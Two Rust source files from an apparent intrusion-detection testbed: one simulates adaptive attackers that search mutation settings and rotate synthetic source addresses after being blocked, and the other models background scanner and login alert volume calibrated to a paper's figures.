