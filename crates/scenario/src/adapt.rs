//! Closed-loop adaptive attackers.
//!
//! [`crate::mutate`] samples its knobs blindly: a campaign draws one
//! [`MutationConfig`] and replays open-loop, so an evaluation over it
//! measures *average* evasion. A motivated adversary does neither — they
//! search the knob space for the variant the defense misses, and they
//! watch the defense respond mid-attack. This module supplies both
//! attacker layers, fully deterministic under a seed:
//!
//! - [`AdaptiveSearch`] — a seeded hill-climbing optimizer over
//!   [`MutationConfig`]. Each probe proposes a one-knob perturbation of
//!   the best config found so far; the caller scores it (missed damage
//!   from an `EvalReport`) and feeds the score back. The converged best
//!   config is one point on the per-family **worst-case robustness
//!   frontier**.
//! - [`FeedbackTap`] — a shared, thread-safe channel the testbed's
//!   response stage publishes block *decisions* into. This is the
//!   attacker's observation surface: a blocked source is exactly what a
//!   real adversary sees (their connections stop landing).
//! - [`ReactiveGenerator`] — a mid-stream campaign generator that plans
//!   sessions exactly like [`generate_campaign`](crate::mutate::generate_campaign),
//!   emits records up to a time cursor, and *reacts* to observed blocks
//!   under a [`ReactivePolicy`]: rotating the blocked hop to a fresh
//!   source entity, stretching the remaining tempo, and optionally
//!   re-splitting the tail across an extra entity. Ground truth tracks
//!   every rotation, so the evaluation harness attributes detections on
//!   rotated entities to their session instead of counting them as
//!   background false positives.

use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex};

use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::rng::{FxHashSet, SimRng};
use simnet::time::{SimDuration, SimTime};
use telemetry::record::{LogRecord, NoticeKind, NoticeRecord};

use crate::mutate::{
    campaign_entity_addr, decoy_session, mutate_template, CampaignConfig, CampaignGroundTruth,
    MutatedSession, MutationConfig, SessionTruth, StepOrigin,
};
use crate::stream::record_stream;

/// Bounds of the hill-climbing search over [`MutationConfig`]. Every
/// proposal stays inside these ranges, so the optimizer cannot wander
/// into configs the mutation engine rejects (`dilation < 1.0`) or that
/// trivialize the campaign (all-decoy, all-dropped).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SearchSpace {
    pub drop_prob: (f64, f64),
    pub swap_prob: (f64, f64),
    /// Upper bound on `noise_steps` (lower bound is 0).
    pub max_noise_steps: usize,
    /// Dilation range; the lower bound must be ≥ 1.0.
    pub dilation: (f64, f64),
    pub decoy_prob: (f64, f64),
    pub lateral_prob: (f64, f64),
    /// Upper bound on `max_lateral_entities` (lower bound is 1).
    pub max_lateral_entities: usize,
}

impl Default for SearchSpace {
    fn default() -> Self {
        SearchSpace {
            drop_prob: (0.0, 0.6),
            swap_prob: (0.0, 0.8),
            max_noise_steps: 8,
            dilation: (1.0, 24.0),
            decoy_prob: (0.0, 0.4),
            lateral_prob: (0.0, 1.0),
            max_lateral_entities: 4,
        }
    }
}

/// Seeded hill-climbing optimizer over [`MutationConfig`].
///
/// Protocol: call [`propose`](Self::propose), evaluate the returned
/// config (one campaign probe), then call [`observe`](Self::observe)
/// with the attacker's score (higher = more damage missed by the
/// defense). The first proposal is always the base config, so the
/// baseline is probe 0 of every search. `force_damage` is pinned: every
/// probe keeps its preemption anchor, otherwise "missed damage" is
/// unmeasurable.
#[derive(Debug, Clone)]
pub struct AdaptiveSearch {
    space: SearchSpace,
    rng: SimRng,
    best: MutationConfig,
    best_score: f64,
    candidate: Option<MutationConfig>,
    probes: usize,
    accepted: usize,
}

impl AdaptiveSearch {
    pub fn new(base: MutationConfig, space: SearchSpace, seed: u64) -> AdaptiveSearch {
        assert!(space.dilation.0 >= 1.0, "dilation lower bound must be >= 1");
        let mut base = base;
        base.force_damage = true;
        base.dilation = base.dilation.clamp(space.dilation.0, space.dilation.1);
        AdaptiveSearch {
            space,
            rng: SimRng::seed(seed),
            best: base,
            best_score: f64::NEG_INFINITY,
            candidate: None,
            probes: 0,
            accepted: 0,
        }
    }

    /// The next config to probe. Must be followed by one
    /// [`observe`](Self::observe) before the next proposal.
    pub fn propose(&mut self) -> MutationConfig {
        assert!(
            self.candidate.is_none(),
            "propose() called twice without observe()"
        );
        let c = if self.probes == 0 {
            self.best.clone()
        } else {
            self.perturb()
        };
        self.candidate = Some(c.clone());
        c
    }

    /// Score the outstanding proposal (higher = better for the
    /// attacker). Greedy accept: the proposal replaces the incumbent
    /// only on strict improvement, so ties keep the earlier (and under a
    /// fixed seed, reproducible) config.
    pub fn observe(&mut self, score: f64) {
        let c = self
            .candidate
            .take()
            .expect("observe() without a pending propose()");
        self.probes += 1;
        if score > self.best_score {
            self.best = c;
            self.best_score = score;
            self.accepted += 1;
        }
    }

    /// One-knob neighborhood move around the incumbent.
    fn perturb(&mut self) -> MutationConfig {
        let mut c = self.best.clone();
        let s = &self.space;
        match self.rng.index(7) {
            0 => {
                let d = self.rng.uniform(-0.15, 0.15);
                c.drop_prob = (c.drop_prob + d).clamp(s.drop_prob.0, s.drop_prob.1);
            }
            1 => {
                let d = self.rng.uniform(-0.2, 0.2);
                c.swap_prob = (c.swap_prob + d).clamp(s.swap_prob.0, s.swap_prob.1);
            }
            2 => {
                let step = self.rng.index(5) as i64 - 2;
                let n = (c.noise_steps as i64 + step).clamp(0, s.max_noise_steps as i64);
                c.noise_steps = n as usize;
            }
            3 => {
                let f = self.rng.uniform(0.6, 1.8);
                c.dilation = (c.dilation * f).clamp(s.dilation.0, s.dilation.1);
            }
            4 => {
                let d = self.rng.uniform(-0.1, 0.1);
                c.decoy_prob = (c.decoy_prob + d).clamp(s.decoy_prob.0, s.decoy_prob.1);
            }
            5 => {
                let d = self.rng.uniform(-0.25, 0.25);
                c.lateral_prob = (c.lateral_prob + d).clamp(s.lateral_prob.0, s.lateral_prob.1);
            }
            _ => {
                c.max_lateral_entities = 1 + self.rng.index(s.max_lateral_entities.max(1));
            }
        }
        c.force_damage = true;
        c
    }

    /// Best config found so far (the base config until a probe scores).
    pub fn best(&self) -> &MutationConfig {
        &self.best
    }

    /// Score of the best config (`-inf` before the first observation).
    pub fn best_score(&self) -> f64 {
        self.best_score
    }

    /// Probes observed so far.
    pub fn probes(&self) -> usize {
        self.probes
    }

    /// Probes that improved on the incumbent (the base probe included).
    pub fn accepted(&self) -> usize {
        self.accepted
    }
}

/// One block decision observed by the attacker.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BlockEvent {
    pub ts: SimTime,
    pub addr: Ipv4Addr,
}

/// Shared feedback channel from the response stage back into the
/// attacker: the defense publishes every block *decision* (the moment a
/// source is chosen for null-routing — what an adversary observes as
/// their connections going dark), and the reactive generator drains the
/// channel at its round boundaries.
///
/// `std::sync` rather than a scenario-crate lock dependency; the tap is
/// cloned into the pipeline and contention is one push per distinct
/// blocked source, so the mutex is never hot. Publishing is a pure side
/// channel: it never perturbs pipeline state, so tapped and untapped
/// runs stay byte-identical.
#[derive(Debug, Clone, Default)]
pub struct FeedbackTap {
    inner: Arc<Mutex<Vec<BlockEvent>>>,
}

impl FeedbackTap {
    pub fn new() -> FeedbackTap {
        FeedbackTap::default()
    }

    /// Record one block decision.
    pub fn publish(&self, ts: SimTime, addr: Ipv4Addr) {
        self.inner
            .lock()
            .expect("feedback tap lock")
            .push(BlockEvent { ts, addr });
    }

    /// Take every event published since the last drain, in publish
    /// order.
    pub fn drain(&self) -> Vec<BlockEvent> {
        std::mem::take(&mut *self.inner.lock().expect("feedback tap lock"))
    }

    /// Events currently queued.
    pub fn len(&self) -> usize {
        self.inner.lock().expect("feedback tap lock").len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// How the attacker reacts to an observed block on one of its session
/// entities. All reactions apply to *future* (unemitted) steps only —
/// history is immutable, exactly as for a real adversary.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ReactivePolicy {
    /// Rotate remaining steps of a blocked hop onto a fresh source
    /// entity.
    pub rotate_on_block: bool,
    /// Stretch the remaining inter-step tempo by this factor on each
    /// rotation (`1.0` keeps the tempo; > 1 goes low-and-slow after
    /// being burned).
    pub tempo_factor: f64,
    /// Probability a rotation also re-splits the remaining steps across
    /// a second fresh entity (lateral evasion under pressure).
    pub resplit_prob: f64,
    /// Rotation budget per session (bounds entity churn).
    pub max_rotations: u32,
}

impl Default for ReactivePolicy {
    fn default() -> Self {
        ReactivePolicy {
            rotate_on_block: true,
            tempo_factor: 1.5,
            resplit_prob: 0.5,
            max_rotations: 3,
        }
    }
}

impl ReactivePolicy {
    /// A policy that never reacts — the open-loop reference. A generator
    /// under this policy emits exactly the stream
    /// [`generate_campaign`](crate::mutate::generate_campaign) would.
    pub fn open_loop() -> ReactivePolicy {
        ReactivePolicy {
            rotate_on_block: false,
            tempo_factor: 1.0,
            resplit_prob: 0.0,
            max_rotations: 0,
        }
    }
}

/// Attacker-side accounting of one reactive campaign.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ReactiveStats {
    /// Planned sessions (attack + decoy).
    pub sessions: usize,
    /// Hop rotations performed (a session may rotate several times).
    pub rotations: u64,
    /// Rotations that also stretched the remaining tempo.
    pub tempo_stretches: u64,
    /// Rotations that re-split the tail across an extra entity.
    pub resplits: u64,
    /// Fresh entities allocated by rotations.
    pub fresh_entities: u64,
}

/// One in-flight session of a reactive campaign.
#[derive(Debug, Clone)]
struct LiveSession {
    session: MutatedSession,
    /// First unemitted step index (steps stay offset-sorted through
    /// every reaction).
    next_step: usize,
    /// Realized template steps: (ts, kind, entity index).
    emitted: Vec<(SimTime, AlertKind, usize)>,
    rotations: u32,
}

impl LiveSession {
    /// Absolute timestamp of step `i`.
    fn step_ts(&self, i: usize) -> SimTime {
        self.session
            .start
            .saturating_add(self.session.steps[i].offset)
    }

    fn finished(&self) -> bool {
        self.next_step >= self.session.steps.len()
    }
}

/// Rotation entities come from the same 198.18.0.0/15 campaign pool but
/// far past any planned allocation (a 240-session campaign with 4-way
/// splits plans under 1 000 entities), so fresh sources never collide
/// with planned ones.
const ROTATION_ENTITY_BASE: u32 = 100_000;

/// Mid-stream campaign generator with a feedback loop.
///
/// Plans sessions with draw-for-draw the same RNG schedule as
/// [`generate_campaign`](crate::mutate::generate_campaign) (fork
/// `0x5E55` for sessions, `0xBAC6` for background), then emits the
/// merged record stream incrementally through
/// [`emit_until`](Self::emit_until). Between rounds the driver feeds
/// observed [`BlockEvent`]s into [`observe_blocks`](Self::observe_blocks)
/// and the attacker reacts per its [`ReactivePolicy`]. Everything is
/// deterministic in `(config, policy, seed, feedback sequence)` — and
/// the feedback itself is deterministic when it comes from a
/// deterministic pipeline, so the whole closed loop replays.
#[derive(Debug, Clone)]
pub struct ReactiveGenerator {
    policy: ReactivePolicy,
    sessions: Vec<LiveSession>,
    background: Vec<LogRecord>,
    bg_next: usize,
    /// Rotation-choice RNG (forked from the campaign seed; drawn from
    /// only on reactions, so the open-loop plan is feedback-independent).
    rng: SimRng,
    next_entity: u32,
    dilation: f64,
    stats: ReactiveStats,
    scratch: String,
}

impl ReactiveGenerator {
    /// Plan a reactive campaign. `rng` is the campaign seed stream, used
    /// exactly as [`generate_campaign`](crate::mutate::generate_campaign)
    /// uses it.
    pub fn new(
        cfg: &CampaignConfig,
        policy: ReactivePolicy,
        rng: &mut SimRng,
    ) -> ReactiveGenerator {
        assert!(!cfg.families.is_empty(), "campaign needs templates");
        assert!(policy.tempo_factor >= 1.0, "reactive tempo never speeds up");
        let mut session_rng = rng.fork(0x5E55);
        let mut background_rng = rng.fork(0xBAC6);
        let reactive_rng = rng.fork(0xADA7);

        let mut sessions = Vec::with_capacity(cfg.sessions);
        let mut entity_counter = 0u32;
        let horizon_ns = cfg.horizon.as_nanos().max(1);
        for id in 0..cfg.sessions {
            let start = cfg.start + SimDuration::from_nanos(session_rng.range_u64(0, horizon_ns));
            let victim = simnet::addr::ncsa_production().nth(session_rng.range_u64(256, 60_000));
            let session = if session_rng.chance(cfg.mutation.decoy_prob) {
                let entity = campaign_entity_addr(entity_counter);
                entity_counter += 1;
                decoy_session(id, &cfg.mutation, start, entity, victim, &mut session_rng)
            } else {
                let template = &cfg.families[id % cfg.families.len()];
                let entities: Vec<Ipv4Addr> = (0..cfg.mutation.max_lateral_entities.max(1))
                    .map(|j| campaign_entity_addr(entity_counter + j as u32))
                    .collect();
                entity_counter += entities.len() as u32;
                mutate_template(
                    id,
                    template,
                    &cfg.mutation,
                    start,
                    entities,
                    victim,
                    &mut session_rng,
                )
            };
            sessions.push(LiveSession {
                session,
                next_step: 0,
                emitted: Vec::new(),
                rotations: 0,
            });
        }

        let background = match &cfg.background {
            Some(bcfg) => record_stream(bcfg, &mut background_rng),
            None => Vec::new(),
        };

        ReactiveGenerator {
            policy,
            stats: ReactiveStats {
                sessions: sessions.len(),
                ..ReactiveStats::default()
            },
            sessions,
            background,
            bg_next: 0,
            rng: reactive_rng,
            next_entity: ROTATION_ENTITY_BASE,
            dilation: cfg.mutation.dilation,
            scratch: String::new(),
        }
    }

    /// Emit every record with `ts < until` (sessions in id order, then
    /// background, stable-sorted by timestamp — the per-round slice of
    /// exactly the ordering `generate_campaign` produces globally).
    /// Returns the number of records appended.
    pub fn emit_until(&mut self, until: SimTime, out: &mut Vec<LogRecord>) -> usize {
        use std::fmt::Write as _;
        let mark = out.len();
        for ls in &mut self.sessions {
            while ls.next_step < ls.session.steps.len() {
                let ts = ls.step_ts(ls.next_step);
                if ts >= until {
                    break;
                }
                let step = &ls.session.steps[ls.next_step];
                let symbol = step.kind.symbol();
                self.scratch.clear();
                let _ = write!(
                    self.scratch,
                    "campaign session {} {}",
                    ls.session.id, symbol
                );
                out.push(LogRecord::Notice(NoticeRecord {
                    ts,
                    note: NoticeKind::Custom(symbol.into()),
                    msg: self.scratch.as_str().into(),
                    src: ls.session.entities[step.entity],
                    dst: Some(ls.session.victim),
                    sub: ls.session.family.as_str().into(),
                }));
                if matches!(step.origin, StepOrigin::Template { .. }) {
                    ls.emitted.push((ts, step.kind, step.entity));
                }
                ls.next_step += 1;
            }
        }
        while self.bg_next < self.background.len() && self.background[self.bg_next].ts() < until {
            out.push(self.background[self.bg_next].clone());
            self.bg_next += 1;
        }
        out[mark..].sort_by_key(|r| r.ts());
        out.len() - mark
    }

    /// Emit everything still pending (end of campaign).
    pub fn finish(&mut self, out: &mut Vec<LogRecord>) -> usize {
        let far = self
            .next_event_ts()
            .map(|t| t.saturating_add(SimDuration::from_days(36_500)))
            .unwrap_or(SimTime::EPOCH);
        self.emit_until(far, out)
    }

    /// Timestamp of the earliest unemitted record, if any.
    pub fn next_event_ts(&self) -> Option<SimTime> {
        let s = self
            .sessions
            .iter()
            .filter(|ls| !ls.finished())
            .map(|ls| ls.step_ts(ls.next_step))
            .min();
        let b = self.background.get(self.bg_next).map(|r| r.ts());
        match (s, b) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (x, y) => x.or(y),
        }
    }

    /// Whether every planned record has been emitted.
    pub fn finished(&self) -> bool {
        self.sessions.iter().all(LiveSession::finished) && self.bg_next >= self.background.len()
    }

    /// Feed observed block decisions back into the attacker at a round
    /// boundary `now` (all records before `now` already emitted). A
    /// session whose next step would come from a blocked entity rotates
    /// its remaining blocked-entity steps onto a fresh source, stretches
    /// the remaining tempo, and may re-split — per the policy.
    pub fn observe_blocks(&mut self, now: SimTime, blocked: &[BlockEvent]) {
        if !self.policy.rotate_on_block || blocked.is_empty() {
            return;
        }
        let blocked_addrs: FxHashSet<Ipv4Addr> = blocked.iter().map(|e| e.addr).collect();
        for i in 0..self.sessions.len() {
            let ls = &self.sessions[i];
            if ls.session.decoy || ls.finished() || ls.rotations >= self.policy.max_rotations {
                continue;
            }
            let cur = ls.session.entities[ls.session.steps[ls.next_step].entity];
            if !blocked_addrs.contains(&cur) {
                continue;
            }
            self.rotate_session(i, now, &blocked_addrs);
        }
    }

    /// Rotate the remaining blocked-entity steps of session `i` onto
    /// fresh entities, stretching the tail tempo.
    fn rotate_session(&mut self, i: usize, now: SimTime, blocked: &FxHashSet<Ipv4Addr>) {
        let tempo = self.policy.tempo_factor;
        let resplit = self.policy.resplit_prob > 0.0 && self.rng.chance(self.policy.resplit_prob);
        let ls = &mut self.sessions[i];
        let fresh = campaign_entity_addr(self.next_entity);
        self.next_entity += 1;
        self.stats.fresh_entities += 1;
        ls.session.entities.push(fresh);
        let fresh_idx = ls.session.entities.len() - 1;

        // Indices of remaining steps that need a new home.
        let moving: Vec<usize> = (ls.next_step..ls.session.steps.len())
            .filter(|&j| blocked.contains(&ls.session.entities[ls.session.steps[j].entity]))
            .collect();
        debug_assert!(!moving.is_empty(), "rotation implies a blocked next step");
        let second_idx = if resplit && moving.len() >= 2 {
            let second = campaign_entity_addr(self.next_entity);
            self.next_entity += 1;
            self.stats.fresh_entities += 1;
            ls.session.entities.push(second);
            self.stats.resplits += 1;
            Some(ls.session.entities.len() - 1)
        } else {
            None
        };
        let split_at = moving.len().div_ceil(2);
        for (k, &j) in moving.iter().enumerate() {
            ls.session.steps[j].entity = match second_idx {
                Some(second) if k >= split_at => second,
                _ => fresh_idx,
            };
        }

        // Low-and-slow after being burned: every remaining step slides
        // out by `tempo` relative to `now` (monotone, so step order is
        // preserved and nothing moves before the rotation instant).
        if tempo > 1.0 {
            for j in ls.next_step..ls.session.steps.len() {
                let ts = ls.session.start.saturating_add(ls.session.steps[j].offset);
                let rel = ts.saturating_since(now);
                let new_ts = now.saturating_add(rel.mul_f64(tempo));
                ls.session.steps[j].offset = new_ts.saturating_since(ls.session.start);
            }
            self.stats.tempo_stretches += 1;
        }
        ls.rotations += 1;
        self.stats.rotations += 1;
    }

    /// Attacker-side accounting so far.
    pub fn stats(&self) -> ReactiveStats {
        self.stats
    }

    /// Ground truth of the campaign *as realized* — rotated entities
    /// appear in their session's `entity_keys`/`step_entities`, and
    /// damage deadlines reflect any tempo stretching. Call after the
    /// stream is fully emitted.
    pub fn truth(&self) -> CampaignGroundTruth {
        let mut truth = CampaignGroundTruth {
            dilation: self.dilation,
            ..CampaignGroundTruth::default()
        };
        for ls in &self.sessions {
            let steps: Vec<(SimTime, AlertKind)> =
                ls.emitted.iter().map(|&(ts, kind, _)| (ts, kind)).collect();
            let step_gap_secs: Vec<f64> = steps
                .windows(2)
                .map(|w| w[1].0.saturating_since(w[0].0).as_secs_f64())
                .collect();
            let step_entities: Vec<usize> = ls.emitted.iter().map(|&(_, _, e)| e).collect();
            let damage_ts = ls
                .emitted
                .iter()
                .find(|(_, kind, _)| kind.is_critical())
                .map(|&(ts, _, _)| ts);
            truth.sessions.push(SessionTruth {
                id: ls.session.id,
                family: ls.session.family.clone(),
                decoy: ls.session.decoy,
                entity_keys: ls.session.entity_keys(),
                start: ls.session.start,
                damage_ts,
                steps,
                step_gap_secs,
                step_entities,
            });
        }
        truth.background_records = self.background.len() as u64;
        truth
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::library::standard_library;
    use crate::mutate::generate_campaign;
    use crate::stream::RecordStreamConfig;

    fn cfg(sessions: usize) -> CampaignConfig {
        CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(12),
            families: standard_library(),
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn search_first_probe_is_the_base_config() {
        let base = MutationConfig::default();
        let mut s = AdaptiveSearch::new(base.clone(), SearchSpace::default(), 7);
        let first = s.propose();
        assert_eq!(first.drop_prob, base.drop_prob);
        assert_eq!(first.dilation, base.dilation);
        s.observe(0.25);
        assert_eq!(s.best_score(), 0.25);
        assert_eq!(s.probes(), 1);
    }

    #[test]
    fn search_is_greedy_and_stays_in_bounds() {
        let space = SearchSpace::default();
        let mut s = AdaptiveSearch::new(MutationConfig::default(), space.clone(), 11);
        let mut best_seen = f64::NEG_INFINITY;
        let mut scorer = SimRng::seed(5);
        for _ in 0..60 {
            let c = s.propose();
            assert!(c.drop_prob >= space.drop_prob.0 && c.drop_prob <= space.drop_prob.1);
            assert!(c.swap_prob >= space.swap_prob.0 && c.swap_prob <= space.swap_prob.1);
            assert!(c.noise_steps <= space.max_noise_steps);
            assert!(c.dilation >= 1.0 && c.dilation <= space.dilation.1);
            assert!(c.decoy_prob >= space.decoy_prob.0 && c.decoy_prob <= space.decoy_prob.1);
            assert!(c.lateral_prob >= 0.0 && c.lateral_prob <= 1.0);
            assert!(
                c.max_lateral_entities >= 1 && c.max_lateral_entities <= space.max_lateral_entities
            );
            assert!(c.force_damage, "preemption anchor pinned");
            let score = scorer.f64();
            s.observe(score);
            best_seen = best_seen.max(score);
            assert_eq!(s.best_score(), best_seen, "greedy max over probes");
        }
        assert_eq!(s.probes(), 60);
        assert!(s.accepted() >= 1);
    }

    #[test]
    fn search_same_seed_same_trajectory() {
        let run = || {
            let mut s = AdaptiveSearch::new(MutationConfig::default(), SearchSpace::default(), 42);
            let mut out = Vec::new();
            for i in 0..25 {
                let c = s.propose();
                out.push(format!(
                    "{:.12} {:.12} {} {:.12} {:.12} {:.12} {}",
                    c.drop_prob,
                    c.swap_prob,
                    c.noise_steps,
                    c.dilation,
                    c.decoy_prob,
                    c.lateral_prob,
                    c.max_lateral_entities
                ));
                s.observe(((i * 7) % 13) as f64 / 13.0);
            }
            out
        };
        assert_eq!(run(), run(), "same seed, same proposals");
    }

    #[test]
    fn feedback_tap_publishes_and_drains_in_order() {
        let tap = FeedbackTap::new();
        let clone = tap.clone();
        assert!(tap.is_empty());
        clone.publish(SimTime::from_secs(1), "198.18.0.1".parse().unwrap());
        clone.publish(SimTime::from_secs(2), "198.18.0.2".parse().unwrap());
        assert_eq!(tap.len(), 2, "clones share the channel");
        let events = tap.drain();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].ts, SimTime::from_secs(1));
        assert_eq!(events[1].addr, "198.18.0.2".parse::<Ipv4Addr>().unwrap());
        assert!(tap.is_empty(), "drain empties the channel");
    }

    #[test]
    fn open_loop_generator_matches_generate_campaign() {
        let mut c = cfg(30);
        c.background = Some(RecordStreamConfig {
            scan_records: 400,
            benign_flows: 150,
            exec_records: 250,
            users: 30,
            ..RecordStreamConfig::default()
        });
        let reference = generate_campaign(&c, &mut SimRng::seed(91));
        let mut gen =
            ReactiveGenerator::new(&c, ReactivePolicy::open_loop(), &mut SimRng::seed(91));
        // Emit in uneven rounds; the merged stream must be identical.
        let mut out = Vec::new();
        let mut t = c.start;
        for hours in [1u64, 5, 2, 9, 40, 300] {
            t = t.saturating_add(SimDuration::from_hours(hours));
            gen.emit_until(t, &mut out);
        }
        gen.finish(&mut out);
        assert!(gen.finished());
        assert_eq!(out, reference.records, "open loop is a drop-in stream");
        assert_eq!(gen.truth(), reference.truth, "and ground truth agrees");
        assert_eq!(gen.stats().rotations, 0);
    }

    #[test]
    fn blocked_hop_rotates_to_fresh_entity_and_truth_tracks_it() {
        let mut c = cfg(8);
        c.mutation.decoy_prob = 0.0;
        c.mutation.lateral_prob = 0.0;
        c.mutation.dilation = 4.0; // enough span to block mid-session
        let policy = ReactivePolicy {
            resplit_prob: 0.0,
            tempo_factor: 2.0,
            ..ReactivePolicy::default()
        };
        let mut gen = ReactiveGenerator::new(&c, policy, &mut SimRng::seed(17));
        // Find a session with at least 3 steps and block its first
        // entity after its first step has been emitted.
        let open_truth = generate_campaign(&c, &mut SimRng::seed(17)).truth;
        let target = open_truth
            .sessions
            .iter()
            .filter(|s| s.steps.len() >= 3)
            .max_by_key(|s| s.steps.len())
            .expect("a multi-step session")
            .clone();
        let first_key = target.entity_keys[0].clone();
        let first_addr: Ipv4Addr = first_key
            .strip_prefix("addr:")
            .expect("address entity")
            .parse()
            .unwrap();
        let cut = target.steps[0].0.saturating_add(SimDuration::from_secs(1));

        let mut out = Vec::new();
        gen.emit_until(cut, &mut out);
        gen.observe_blocks(
            cut,
            &[BlockEvent {
                ts: cut,
                addr: first_addr,
            }],
        );
        gen.finish(&mut out);
        let truth = gen.truth();
        let rotated = truth
            .sessions
            .iter()
            .find(|s| s.id == target.id)
            .expect("session survives");
        assert!(gen.stats().rotations >= 1, "block triggered a rotation");
        assert!(
            rotated.entity_keys.len() > target.entity_keys.len(),
            "fresh entity appears in ground truth: {:?}",
            rotated.entity_keys
        );
        assert!(
            rotated.entity_keys.contains(&first_key),
            "burned entity stays attributed"
        );
        // Remaining steps moved off the blocked entity.
        for (k, &(ts, _)) in rotated.steps.iter().enumerate() {
            if ts >= cut {
                let hop = rotated.step_entities[k];
                assert_ne!(
                    rotated.entity_keys[hop], first_key,
                    "no future step from a blocked source"
                );
            }
        }
        // Tempo stretch keeps order and pushes the damage step later.
        assert!(rotated.steps.windows(2).all(|w| w[1].0 >= w[0].0));
        assert!(rotated.damage_ts.expect("damage kept") >= target.damage_ts.unwrap());
        // Every emitted record is attributable: no step from an entity
        // missing from entity_keys.
        for s in &truth.sessions {
            assert_eq!(s.step_entities.len(), s.steps.len());
            for &e in &s.step_entities {
                assert!(e < s.entity_keys.len());
            }
        }
    }

    #[test]
    fn reactive_replay_is_deterministic_given_same_feedback() {
        let mut c = cfg(16);
        c.mutation.decoy_prob = 0.0;
        let run = || {
            let mut gen =
                ReactiveGenerator::new(&c, ReactivePolicy::default(), &mut SimRng::seed(23));
            let mut out = Vec::new();
            let mut t = c.start;
            let mut round = 0u64;
            while !gen.finished() {
                t = t.saturating_add(SimDuration::from_hours(2));
                gen.emit_until(t, &mut out);
                // Scripted feedback: block the source of every 7th
                // emitted record (a deterministic stand-in for the
                // pipeline's block stream).
                round += 1;
                let fake: Vec<BlockEvent> = out
                    .iter()
                    .skip((round as usize * 3) % 5)
                    .step_by(7)
                    .filter_map(|r| match r {
                        LogRecord::Notice(n) => Some(BlockEvent { ts: t, addr: n.src }),
                        _ => None,
                    })
                    .collect();
                gen.observe_blocks(t, &fake);
                if round > 10_000 {
                    panic!("runaway loop");
                }
            }
            (out, gen.truth(), gen.stats())
        };
        let a = run();
        let b = run();
        assert_eq!(a.0, b.0, "same seed + same feedback = same stream");
        assert_eq!(a.1, b.1);
        assert_eq!(a.2, b.2);
        assert!(a.2.rotations > 0, "the scripted feedback caused reactions");
    }
}
