//! Background traffic: mass scanners, daily alert volume, Fig. 1 flows.
//!
//! Calibrated to the paper's published numbers:
//!
//! - Fig. 2: **94,238 alerts/day on average (σ = 23,547)**, of which
//!   ~80 K are repeated port/vulnerability scans (Insight 3).
//! - Table I: **25 M alerts over 24 years** reduced to ~191 K by the
//!   repeated-scan filter.
//! - Fig. 1: one mass scanner probing the /16 (10,000 sampled flows), a
//!   smaller scanner, ~17 K legitimate connections, and a two-edge real
//!   attack, totalling ≈29 K nodes and ≈27 K edges.

use std::net::Ipv4Addr;

use alertlib::alert::{Alert, Entity};
use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::flow::{Flow, FlowId};
use simnet::rng::{SimRng, Zipf};
use simnet::time::{SimDuration, SimTime, NANOS_PER_DAY};

/// Daily alert volume model (Fig. 2).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct VolumeModel {
    pub daily_mean: f64,
    pub daily_std: f64,
    /// Fraction of daily alerts that are repeated scans (~80K/94K).
    pub scan_fraction: f64,
    /// Number of distinct scanner sources active per day.
    pub scanners_per_day: usize,
    /// Number of distinct legitimate/attempt sources per day.
    pub legit_sources_per_day: usize,
}

impl Default for VolumeModel {
    fn default() -> Self {
        VolumeModel {
            daily_mean: 94_238.0,
            daily_std: 23_547.0,
            scan_fraction: 80_000.0 / 94_238.0,
            scanners_per_day: 120,
            legit_sources_per_day: 2_000,
        }
    }
}

/// Kinds of background alerts and their relative weights within the
/// non-scan remainder.
const OTHER_KINDS: &[(AlertKind, f64)] = &[
    (AlertKind::LoginSuccess, 5.0),
    (AlertKind::LoginFailed, 3.0),
    (AlertKind::JobSubmit, 3.0),
    (AlertKind::FileTransfer, 2.0),
    (AlertKind::BruteForcePassword, 1.5),
    (AlertKind::VulnScan, 1.0),
    (AlertKind::SoftwareInstall, 0.5),
];

/// Sample the alert count for one day.
pub fn sample_daily_volume(model: &VolumeModel, rng: &mut SimRng) -> u64 {
    rng.normal(model.daily_mean, model.daily_std).max(1_000.0) as u64
}

/// Stream one day's background alerts through `sink`, returning the count.
/// Alerts are generated in time order and never materialized as a batch —
/// this is how the 25 M-alert Table I experiment stays in constant memory.
pub fn stream_day(
    model: &VolumeModel,
    rng: &mut SimRng,
    day_start: SimTime,
    sink: &mut impl FnMut(Alert),
) -> u64 {
    let total = sample_daily_volume(model, rng);
    let scans = (total as f64 * model.scan_fraction) as u64;
    let zipf_scanners = Zipf::new(model.scanners_per_day.max(1), 1.2);
    let other_weights: Vec<f64> = OTHER_KINDS.iter().map(|(_, w)| *w).collect();
    let step = NANOS_PER_DAY / total.max(1);
    let mut t = day_start;
    // Scanner address pool for the day, derived deterministically.
    let day_tag = day_start.day_index() as u32;
    let scanner_addr = |rank: usize| -> Ipv4Addr {
        let x = (rank as u32)
            .wrapping_mul(2_654_435_761)
            .wrapping_add(day_tag * 97);
        Ipv4Addr::from(0x0100_0000u32 | (x % 0xDE00_0000))
    };
    for i in 0..total {
        t += SimDuration::from_nanos(step);
        let alert = if i < scans {
            let src = scanner_addr(zipf_scanners.sample(rng));
            let dst = simnet::addr::ncsa_production().nth(rng.range_u64(0, 65_536));
            let kind = if rng.chance(0.85) {
                AlertKind::PortScan
            } else {
                AlertKind::AddressSweep
            };
            Alert::new(t, kind, Entity::Address(src))
                .with_src(src)
                .with_dst(dst)
        } else {
            let (kind, _) = OTHER_KINDS[rng.weighted_index(&other_weights)];
            let src_idx = rng.index(model.legit_sources_per_day.max(1));
            let src = simnet::addr::ncsa_production().nth(256 + src_idx as u64);
            let user = format!("user{:04}", src_idx % 997);
            Alert::new(t, kind, Entity::User(user.into())).with_src(src)
        };
        sink(alert);
    }
    total
}

